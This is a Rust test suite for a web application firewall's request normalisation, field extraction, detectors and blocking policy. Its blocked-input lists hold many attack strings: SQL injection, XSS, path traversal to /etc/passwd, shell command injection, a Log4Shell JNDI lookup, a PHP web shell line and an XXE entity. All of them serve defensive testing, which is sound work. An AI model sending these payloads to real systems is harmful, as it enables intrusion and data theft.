//! Tests of normalisation, field extraction, the detectors and the policy.

use http::{HeaderMap, HeaderName, HeaderValue};
use proptest::prelude::*;

use super::config::{Exclusion, RouteThreatConfig, ThreatConfig, ThreatMode, ThreatPolicy};
use super::normalise::{FieldEncoding, normalise};
use super::*;

fn rule_ids(raw: &str, kind: FieldKind) -> Vec<&'static str> {
    inspect_value(raw.as_bytes(), FieldEncoding::Form, kind)
        .iter()
        .map(|rule| rule.id)
        .collect()
}

fn score(raw: &str) -> u32 {
    let rules = inspect_value(raw.as_bytes(), FieldEncoding::Form, FieldKind::Query);
    rules.iter().map(|rule| rule.severity.weight()).sum()
}

fn assert_blocked(values: &[&str]) {
    for value in values {
        assert!(score(value) >= 5, "not blocked: {value:?} {:?}", rule_ids(value, FieldKind::Query));
    }
}

fn assert_passed(values: &[&str]) {
    for value in values {
        assert!(score(value) < 5, "blocked: {value:?} {:?}", rule_ids(value, FieldKind::Query));
    }
}

#[test]
fn double_percent_encoding_is_undone() {
    assert_eq!(normalise(b"%253Cscript%253E", FieldEncoding::Plain).folded, "<script>");
}

#[test]
fn deep_percent_encoding_is_flagged() {
    let value = normalise(b"%2525252541", FieldEncoding::Plain);
    assert!(value.anomalies.deep_encoding);
}

#[test]
fn plus_is_space_only_in_forms() {
    assert_eq!(normalise(b"a+b", FieldEncoding::Form).folded, "a b");
    assert_eq!(normalise(b"a+b", FieldEncoding::Plain).folded, "a+b");
    assert_eq!(normalise(b"a%2Bb", FieldEncoding::Form).folded, "a+b");
}

#[test]
fn full_width_forms_fold_to_ascii() {
    assert_eq!(normalise("ＳＥＬＥＣＴ".as_bytes(), FieldEncoding::Plain).folded, "select");
}

#[test]
fn html_entities_are_decoded() {
    let value = normalise(b"&#x6A;ava&#115;cript&colon;alert&lpar;1&rpar;", FieldEncoding::Plain);
    assert_eq!(value.folded, "javascript:alert(1)");
    assert_eq!(normalise(b"&amp;lt;b&amp;gt;", FieldEncoding::Plain).folded, "<b>");
}

#[test]
fn nul_is_removed_and_flagged() {
    let value = normalise(b"sel%00ect", FieldEncoding::Plain);
    assert_eq!(value.folded, "select");
    assert!(value.anomalies.nul_byte);
}

#[test]
fn control_bytes_become_spaces() {
    let value = normalise(b"union%0Bselect", FieldEncoding::Plain);
    assert_eq!(value.folded, "union select");
    assert!(value.anomalies.control_byte);
}

#[test]
fn overlong_utf8_is_flagged_and_decoded() {
    let value = normalise(b"..%c0%af..%c0%afetc", FieldEncoding::Plain);
    assert!(value.anomalies.overlong_utf8);
    assert_eq!(value.folded, "../../etc");
    assert!(rule_ids("%c0%ae", FieldKind::Query).contains(&"protocol-overlong-utf8"));
}

#[test]
fn case_is_folded_but_kept_for_base64() {
    let value = normalise(b"MiXeD", FieldEncoding::Plain);
    assert_eq!(value.folded, "mixed");
    assert_eq!(value.cased, "MiXeD");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn normalise_never_panics(raw in proptest::collection::vec(any::<u8>(), 0..512)) {
        let form = normalise(&raw, FieldEncoding::Form);
        let plain = normalise(&raw, FieldEncoding::Plain);
        // NFKC expands a character to at most 18; nothing else grows the text.
        prop_assert!(form.folded.chars().count() <= raw.len() * 18 + 1);
        prop_assert!(plain.folded.chars().count() <= raw.len() * 18 + 1);
    }

    #[test]
    fn detectors_never_panic(raw in proptest::collection::vec(any::<u8>(), 0..512)) {
        for kind in [FieldKind::Path, FieldKind::Query, FieldKind::Body, FieldKind::FileName, FieldKind::RawBody] {
            let _ = inspect_value(&raw, FieldEncoding::Form, kind);
        }
    }

    #[test]
    fn detectors_never_panic_on_attack_alphabet(raw in "[<>'\"`;|&$(){}\\[\\]=%/\\\\.a-z0-9 #*!@:-]{0,200}") {
        let _ = inspect_value(raw.as_bytes(), FieldEncoding::Form, FieldKind::Query);
    }
}

#[test]
fn sqli_tautologies_are_blocked() {
    assert_blocked(&[
        "1 OR 1=1",
        "1' or '1'='1",
        "x\" or \"a\"=\"a",
        "' or 1=1--",
        "admin'--",
        "1) or (1=1",
        "' OR username LIKE '%",
    ]);
}

#[test]
fn sqli_union_and_stacked_queries_are_blocked() {
    assert_blocked(&[
        "1 UNION SELECT username, password FROM users",
        "1 UnIoN aLl SeLeCt 1,2,3",
        "1/**/union/**/select/**/password",
        "1; DROP TABLE users",
        "'; exec xp_cmdshell 'dir'--",
        "1 AND SLEEP(5)",
        "1'; WAITFOR DELAY '0:0:5'--",
        "1 /*!50000union*/ select 1",
    ]);
}

#[test]
fn sqli_bypass_encodings_are_blocked() {
    assert_blocked(&[
        "1%2527%2520or%25201%253D1--",
        "%EF%BC%91 %EF%BD%95%EF%BD%8E%EF%BD%89%EF%BD%8F%EF%BD%8E %EF%BD%93%EF%BD%85%EF%BD%8C%EF%BD%85%EF%BD%83%EF%BD%94 1",
        "1+or+1%3d1",
    ]);
}

#[test]
fn sql_like_prose_passes() {
    assert_passed(&[
        "O'Brien",
        "D'Angelo's pizzeria",
        "Please select a plan from the menu.",
        "Rock 'n' roll & blues",
        "1 or 2 bedrooms",
        "Order by Friday to get free shipping!",
        "Union Station is five minutes away.",
        "Tom's and Jerry's favourite place.",
        "Delete from cart? You can undo this later.",
        "x = 5, y = 10; what is x + y?",
    ]);
}

#[test]
fn sqli_fingerprint_reads_token_classes() {
    assert_eq!(sqli::fingerprint("1 or 1=1", None), "1&1=1");
    assert_eq!(sqli::fingerprint("' or 'a'='a", Some('\'')), "s&s=s");
    assert_eq!(sqli::fingerprint("1/**/union/**/select 1", None), "1UE1");
}

#[test]
fn xss_payloads_are_blocked() {
    assert_blocked(&[
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "\" onmouseover=\"alert(1)",
        "<ScRiPt>alert(1)</sCrIpT>",
        "%253Cscript%253Ealert(1)%253C/script%253E",
        "＜script＞alert(1)＜/script＞",
        "<div style=\"width: expression(alert(1))\">",
    ]);
}

#[test]
fn markup_and_prose_pass() {
    assert_passed(&[
        "<b>bold</b> and <i>italic</i>",
        "Use a < b and c > d to compare.",
        "Book: \"JavaScript: The Good Parts\" (2008)",
        "The onion = 3 euros",
    ]);
}

#[test]
fn traversal_and_file_inclusion_are_blocked() {
    assert_blocked(&[
        "../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
        "....//....//windows/win.ini",
        "php://filter/convert.base64-encode/resource=index.php",
        "http://203.0.113.7/shell.txt?",
    ]);
    assert_passed(&["../images/logo.png", "./config/settings.yaml"]);
}

#[test]
fn command_injection_is_blocked() {
    assert_blocked(&[
        "; cat /etc/passwd",
        "| whoami",
        "$(id)",
        "`uname -a`",
        "127.0.0.1 && c'a't /etc/hosts",
        "x;w\"h\"o\"am\"i",
        "a;/???/c?t /???/p?ss??",
        "() { :; }; /bin/bash -c id",
        "test${IFS}id",
        "& powershell -enc AAAA",
    ]);
    assert_passed(&[
        "cats & dogs",
        "Max & Ruby",
        "apples; more later",
        "Time flies when you're having fun.",
        "python",
    ]);
}

#[test]
fn template_and_code_injection_is_blocked() {
    assert_blocked(&[
        "{{7*7}}",
        "${7*7}",
        "{{''.__class__.__mro__}}",
        "{% import os %}",
        "<%= system('id') %>",
        "{\"__proto__\": {\"admin\": true}}",
        "require('child_process').exec('id')",
        "<?php system($_GET['c']); ?>",
        "${jndi:ldap://203.0.113.9/a}",
        "java.lang.Runtime.getRuntime().exec(\"id\")",
        "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    ]);
    assert_passed(&["Hello {{name}}, your order {{order.id}} shipped."]);
}

#[test]
fn every_rule_id_and_number_is_unique() {
    for (index, rule) in rules::ALL.iter().enumerate() {
        for other in &rules::ALL[index + 1..] {
            assert_ne!(rule.id, other.id);
            assert_ne!(rule.number, other.number);
        }
    }
}

fn fields_of(path: &str, query: Option<&str>, headers: &HeaderMap, body: &[u8]) -> Vec<(String, Vec<u8>)> {
    let inspected = [HeaderName::from_static("user-agent")];
    let fields = extract_fields(RequestParts {
        path,
        query,
        headers,
        inspected_headers: &inspected,
        body,
    });
    fields
        .iter()
        .map(|field| (fields.name(field).into_owned(), field.raw.to_vec()))
        .collect()
}

#[test]
fn fields_cover_query_cookies_headers_and_json() {
    let mut headers = HeaderMap::new();
    headers.insert(http::header::COOKIE, HeaderValue::from_static("session=abc; theme=dark"));
    headers.insert(http::header::USER_AGENT, HeaderValue::from_static("curl/8"));
    headers.insert(http::header::CONTENT_TYPE, HeaderValue::from_static("application/json"));
    let fields = fields_of(
        "/users/7",
        Some("q=red+shoes&page=2"),
        &headers,
        br#"{"user":{"name":"Ann","tags":["a","b"]}}"#,
    );
    let names: Vec<&str> = fields.iter().map(|(name, _)| name.as_str()).collect();

    for expected in ["path", "query:q", "query:page", "cookie:session", "cookie:theme", "header:user-agent", "json:user", "json:user.name", "json:user.tags.1"] {
        assert!(names.contains(&expected), "missing {expected} in {names:?}");
    }
}

#[test]
fn deep_json_is_walked_without_recursion() {
    let depth = 120;
    let body = format!("{}\"x\"{}", "[".repeat(depth), "]".repeat(depth));
    let mut headers = HeaderMap::new();
    headers.insert(http::header::CONTENT_TYPE, HeaderValue::from_static("application/json"));

    let fields = fields_of("/", None, &headers, body.as_bytes());

    assert_eq!(fields.len(), 2, "the path and the string: {fields:?}");
    let nested = fields
        .iter()
        .find(|(name, _)| name.starts_with("json:0.0.0"))
        .expect("the nested string is a field");
    assert_eq!(nested.1, b"x");
}

#[test]
fn deeply_nested_attack_is_flagged() {
    let depth = 40;
    let attack = "1' union select password from users--";
    let body = format!("{}{{\"q\":\"{attack}\"}}{}", "[".repeat(depth), "]".repeat(depth));

    let findings = json_request_findings(&body);

    assert!(
        findings.iter().any(|finding| finding.rule.id.starts_with("sqli") && finding.field.ends_with(".q")),
        "no SQL injection finding in the nested value: {findings:?}"
    );
}

#[test]
fn multipart_file_name_is_a_field() {
    let mut headers = HeaderMap::new();
    headers.insert(
        http::header::CONTENT_TYPE,
        HeaderValue::from_static("multipart/form-data; boundary=XyZ"),
    );
    let body = b"--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\nhello\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n<?php ?>\r\n--XyZ--\r\n";
    let fields = extract_fields(RequestParts {
        path: "/upload",
        query: None,
        headers: &headers,
        inspected_headers: &[],
        body,
    });

    let findings = inspect_fields(&fields);
    assert!(fields.iter().any(|field| fields.name(field) == "multipart:comment" && *field.raw == *b"hello"));
    assert!(findings.iter().any(|finding| finding.rule.id == "php-file-upload" && finding.field == "multipart:file:filename"));
}

fn finding(rule: Rule, field: &str) -> Finding {
    Finding {
        rule,
        field: field.into(),
        excerpt: String::new(),
    }
}

#[test]
fn policy_blocks_at_threshold_and_honours_detect_mode() {
    let findings = vec![finding(rules::SQLI_UNION, "query:id")];
    let block = ThreatPolicy::new(&ThreatConfig::default(), []);
    let detect = ThreatPolicy::new(
        &ThreatConfig {
            mode: ThreatMode::Detect,
            ..ThreatConfig::default()
        },
        [],
    );

    assert!(block.judge(findings.clone(), None).block);
    let verdict = detect.judge(findings, None);
    assert!(!verdict.block);
    assert_eq!(verdict.score, 5);
}

#[test]
fn low_severity_alone_passes() {
    let policy = ThreatPolicy::new(&ThreatConfig::default(), []);
    let verdict = policy.judge(vec![finding(rules::RFI_IP_URL, "query:u")], None);
    assert_eq!(verdict.score, 3);
    assert!(!verdict.block);
}

#[test]
fn exclusions_apply_by_rule_field_and_route() {
    let config = ThreatConfig {
        exclusions: vec![
            Exclusion {
                rules: vec!["sqli".into()],
                fields: vec!["json:query.*".into()],
                route: None,
            },
            Exclusion {
                rules: vec!["xss-dangerous-tag".into()],
                fields: Vec::new(),
                route: Some("cms".into()),
            },
        ],
        ..ThreatConfig::default()
    };
    let route = RouteThreatConfig {
        exclusions: vec![Exclusion {
            rules: Vec::new(),
            fields: vec!["body:template".into()],
            route: None,
        }],
        ..RouteThreatConfig::default()
    };
    let policy = ThreatPolicy::new(&config, [("templates", &route)]);

    assert!(!policy.judge(vec![finding(rules::SQLI_UNION, "json:query.text")], None).block);
    assert!(policy.judge(vec![finding(rules::SQLI_UNION, "json:name")], None).block);
    assert!(!policy.judge(vec![finding(rules::XSS_DANGEROUS_TAG, "body:html")], Some("cms")).block);
    assert!(policy.judge(vec![finding(rules::XSS_DANGEROUS_TAG, "body:html")], Some("blog")).block);
    assert!(!policy.judge(vec![finding(rules::SSTI_EXPRESSION, "body:template")], Some("templates")).block);
    assert!(policy.judge(vec![finding(rules::SSTI_EXPRESSION, "body:template")], None).block);
}

#[test]
fn detect_only_rules_report_without_blocking() {
    let config = ThreatConfig {
        detect_only: vec!["rce-unix-command".into()],
        ..ThreatConfig::default()
    };
    let route = RouteThreatConfig {
        mode: Some(ThreatMode::Detect),
        ..RouteThreatConfig::default()
    };
    let policy = ThreatPolicy::new(&config, [("reports", &route)]);

    let verdict = policy.judge(vec![finding(rules::RCE_UNIX_COMMAND, "query:c")], None);
    assert_eq!(verdict.score, 5);
    assert_eq!(verdict.enforced_score, 0);
    assert!(!verdict.block);
    assert!(!policy.judge(vec![finding(rules::SQLI_UNION, "query:id")], Some("reports")).block);
}

#[test]
fn config_rejects_unknown_rules_and_empty_exclusions() {
    let unknown = ThreatConfig {
        detect_only: vec!["sqli-everything".into()],
        ..ThreatConfig::default()
    };
    let error = unknown.validate().expect_err("unknown rule");
    assert_eq!(error.key, "threat.detect_only");
    assert!(error.problem.contains("sqli-everything"));

    let empty = ThreatConfig {
        exclusions: vec![Exclusion::default()],
        ..ThreatConfig::default()
    };
    assert_eq!(empty.validate().expect_err("empty exclusion").key, "threat.exclusions[0]");

    let zero = ThreatConfig {
        request_threshold: 0,
        ..ThreatConfig::default()
    };
    assert_eq!(zero.validate().expect_err("zero threshold").key, "threat.request_threshold");

    for level in [0, MAX_PARANOIA_LEVEL + 1] {
        let config = ThreatConfig {
            paranoia_level: level,
            ..ThreatConfig::default()
        };
        let error = config.validate().expect_err("level out of range");
        assert_eq!(error.key, "threat.paranoia_level");
        assert!(error.problem.contains("use 1 (the default) to 4"), "{}", error.problem);
    }
    for level in 1..=MAX_PARANOIA_LEVEL {
        let config = ThreatConfig {
            paranoia_level: level,
            ..ThreatConfig::default()
        };
        assert!(config.validate().is_ok(), "level {level}");
    }

    let route = RouteThreatConfig {
        paranoia_level: Some(5),
        ..RouteThreatConfig::default()
    };
    let error = route.validate("login").expect_err("route level out of range");
    assert_eq!(error.key, "routes.login.threat.paranoia_level");
}

#[test]
fn route_paranoia_level_overrides_global() {
    let config = ThreatConfig {
        paranoia_level: 2,
        ..ThreatConfig::default()
    };
    let login = RouteThreatConfig {
        paranoia_level: Some(3),
        ..RouteThreatConfig::default()
    };
    let policy = ThreatPolicy::new(&config, [("login", &login), ("pages", &RouteThreatConfig::default())]);

    assert_eq!(policy.paranoia_level(Some("login")), 3);
    assert_eq!(policy.paranoia_level(Some("pages")), 2);
    assert_eq!(policy.paranoia_level(None), 2);
}

#[test]
fn threat_section_parses_from_toml() {
    let config: ThreatConfig = toml::from_str(
        r#"
mode = "detect"
request_threshold = 10
headers = ["X-Filename"]
detect_only = ["xss"]
[[exclusions]]
rules = ["sqli-boolean"]
fields = ["query:q"]
"#,
    )
    .expect("valid section");

    assert_eq!(config.mode, ThreatMode::Detect);
    assert_eq!(config.request_threshold, 10);
    assert!(config.validate().is_ok());
    let headers = config.inspected_headers();
    let headers: Vec<&str> = headers.iter().map(HeaderName::as_str).collect();
    assert_eq!(headers, ["user-agent", "referer", "x-filename"]);
}

#[test]
fn every_pattern_compiles() {
    for (pattern, rule) in sqli::FINGERPRINT_PATTERNS {
        assert!(regex::Regex::new(pattern).is_ok(), "{} pattern {pattern:?}", rule.id);
    }
    let (compiled, written) = signatures::signature_counts();
    assert_eq!(compiled, written);
    assert!(written > 30, "only {written} signatures");
}

/// Returns the findings of a request to `/api` with `headers` and `body`.
fn request_findings(headers: &[(HeaderName, &'static str)], body: &[u8]) -> Vec<Finding> {
    let mut map = HeaderMap::new();
    for (name, value) in headers {
        map.append(name.clone(), HeaderValue::from_static(value));
    }
    let fields = extract_fields(RequestParts {
        path: "/api",
        query: None,
        headers: &map,
        inspected_headers: &[],
        body,
    });
    inspect_fields(&fields)
}

/// Returns the rule ids found in a request whose body has `content_type`.
fn typed_findings(content_type: &'static str, body: &[u8]) -> Vec<&'static str> {
    request_findings(&[(http::header::CONTENT_TYPE, content_type)], body)
        .iter()
        .map(|finding| finding.rule.id)
        .collect()
}

fn json_request_findings(body: &str) -> Vec<Finding> {
    request_findings(&[(http::header::CONTENT_TYPE, "application/json")], body.as_bytes())
}

fn has_rule(findings: &[Finding], id: &str) -> bool {
    findings.iter().any(|finding| finding.rule.id == id)
}

#[test]
fn value_after_field_limit_is_not_hidden() {
    let padding: Vec<String> = (0..fields::MAX_FIELDS).map(|index| format!("\"k{index}\":\"v\"")).collect();
    let body = format!("{{{},\"q\":\"1' union select password from users--\"}}", padding.join(","));

    let findings = json_request_findings(&body);

    assert!(has_rule(&findings, "protocol-too-many-fields"), "{findings:?}");
    assert!(anomaly_score(&findings) >= config::DEFAULT_REQUEST_THRESHOLD);
}

#[test]
fn body_at_field_limit_is_not_flagged() {
    // The path and the key are two fields, so the strings fill the rest exactly.
    let strings: Vec<String> = (2..fields::MAX_FIELDS).map(|index| format!("\"item {index}\"")).collect();
    let body = format!("{{\"items\":[{}]}}", strings.join(","));

    let findings = json_request_findings(&body);

    assert!(!has_rule(&findings, "protocol-too-many-fields"), "{findings:?}");
}

#[test]
fn query_past_field_limit_is_flagged() {
    let query: Vec<String> = (0..=fields::MAX_FIELDS).map(|index| format!("p{index}=1")).collect();
    let query = query.join("&");
    let headers = HeaderMap::new();
    let fields = extract_fields(RequestParts {
        path: "/search",
        query: Some(&query),
        headers: &headers,
        inspected_headers: &[],
        body: b"",
    });

    assert!(fields.overflowed());
    assert!(has_rule(&inspect_fields(&fields), "protocol-too-many-fields"));
}

#[test]
fn xml_past_field_limit_is_flagged() {
    let mut headers = HeaderMap::new();
    headers.insert(http::header::CONTENT_TYPE, HeaderValue::from_static("application/xml"));
    let overflows = |items: usize| {
        // The path, the root element, and each item's name and text.
        let body = format!("<r>{}</r>\n", "<i>x</i>".repeat(items));
        extract_fields(RequestParts {
            path: "/upload",
            query: None,
            headers: &headers,
            inspected_headers: &[],
            body: body.as_bytes(),
        })
        .overflowed()
    };

    assert!(!overflows((fields::MAX_FIELDS - 2) / 2), "exactly at the limit");
    assert!(overflows((fields::MAX_FIELDS - 2) / 2 + 1));
}

fn body_findings(content_type: &'static str, content_encoding: Option<&'static str>, body: &[u8]) -> Vec<&'static str> {
    let mut headers = vec![(http::header::CONTENT_TYPE, content_type)];
    headers.extend(content_encoding.map(|coding| (http::header::CONTENT_ENCODING, coding)));
    request_findings(&headers, body).iter().map(|finding| finding.rule.id).collect()
}

/// The first bytes of a PNG file: signature, then an IHDR chunk with NUL bytes and bytes that
/// are not UTF-8.
const PNG_START: &[u8] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00\x5c\x72\xa8\x66";

#[test]
fn binary_uploads_are_not_flagged() {
    for content_type in ["image/png", "application/octet-stream", "application/pdf"] {
        assert_eq!(body_findings(content_type, None, PNG_START), Vec::<&str>::new(), "{content_type}");
    }
    assert_eq!(body_findings("application/json", Some("gzip"), b"\x1f\x8b\x08\x00\x00\x00\x00"), Vec::<&str>::new());
}

#[test]
fn text_under_binary_type_is_inspected() {
    let attack = b"q=1' union select password from users--";

    assert!(!body_findings("application/octet-stream", None, attack).is_empty());
    assert!(body_findings("application/json", None, PNG_START).contains(&"protocol-nul-byte"));
}

fn xml_findings(body: &str) -> Vec<&'static str> {
    typed_findings("application/xml", body.as_bytes())
}

#[test]
fn xml_character_data_is_inspected() {
    let findings = xml_findings("<r><q><![CDATA[1' union select password from users-->]]></q></r>");

    assert!(findings.contains(&"sqli-union"), "{findings:?}");
}

#[test]
fn xml_entity_declarations_are_flagged() {
    let external = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
    let expanding = "<!DOCTYPE r [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]><r>&b;</r>";
    let plain = "<?xml version=\"1.0\"?><!DOCTYPE order><order><id>7</id><note>2 < 3 > 1</note></order>";

    assert!(xml_findings(external).contains(&"xxe-entity-declaration"));
    assert!(xml_findings(expanding).contains(&"xxe-entity-declaration"));
    assert_eq!(xml_findings(plain), Vec::<&str>::new());
}

fn charset_findings(content_type: &'static str) -> Vec<&'static str> {
    typed_findings(content_type, b"test=value")
}

#[test]
fn unexpected_charsets_are_flagged() {
    for content_type in [
        "application/x-www-form-urlencoded; charset=ibm037",
        "application/x-www-form-urlencoded;charset=UTF-80",
        "application/x-www-form-urlencoded; charset=\"garbage\"",
        "application/x-www-form-urlencoded;charset=ibm037;charset=UTF-8",
        "application/json; charset=utf-16",
    ] {
        assert_eq!(charset_findings(content_type), ["protocol-charset"], "{content_type}");
    }
}

#[test]
fn common_charsets_pass() {
    for content_type in [
        "application/x-www-form-urlencoded; charset=utf-8",
        "application/x-www-form-urlencoded;charset=UTF-8",
        "application/x-www-form-urlencoded; charset='utf-8'",
        "application/x-www-form-urlencoded; charset=\"ISO-8859-15\"",
        "application/json; charset=windows-1252",
        "text/plain; format=flowed",
        "application/x-www-form-urlencoded",
    ] {
        assert_eq!(charset_findings(content_type), Vec::<&str>::new(), "{content_type}");
    }
}

#[test]
fn media_type_in_parameter_is_flagged() {
    for content_type in [
        "application/x-www-form-urlencoded;boundary=\"application/json\"",
        "application/x-www-form-urlencoded; boundary=\"application/vnd.example.customer-v2+json\"",
        "application/x-www-form-urlencoded;boundary=text/xml",
        "multipart/form-data; boundary=\"image/jpeg\"",
    ] {
        assert_eq!(charset_findings(content_type), ["protocol-hidden-media-type"], "{content_type}");
        assert_eq!(typed_findings(content_type, b""), ["protocol-hidden-media-type"], "{content_type}");
    }
    for content_type in [
        "multipart/form-data; boundary=something",
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        "multipart/related; type=\"application/xop+xml\"; start-info=\"text/xml\"",
        "application/soap+xml; action=\"urn:example/order\"",
        "application/json",
    ] {
        assert!(!charset_findings(content_type).contains(&"protocol-hidden-media-type"), "{content_type}");
    }
}

#[test]
fn charset_without_body_passes() {
    assert_eq!(typed_findings("text/plain; charset=ibm037", b""), Vec::<&str>::new());
}

fn multipart_score(content_type: &'static str, body: &str) -> u32 {
    anomaly_score(&request_findings(&[(http::header::CONTENT_TYPE, content_type)], body.as_bytes()))
}

#[test]
fn multipart_with_two_boundaries_is_inspected_whole() {
    let body = "--AbC\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' union select password from users--\r\n--AbC--\r\n";

    assert!(multipart_score("multipart/form-data; boundary=XyZ; boundary=AbC", body) >= config::DEFAULT_REQUEST_THRESHOLD);
}

#[test]
fn multipart_without_parts_is_inspected_whole() {
    let body = "1' union select password from users--";

    assert!(multipart_score("multipart/form-data; boundary=XyZ", body) >= config::DEFAULT_REQUEST_THRESHOLD);
}
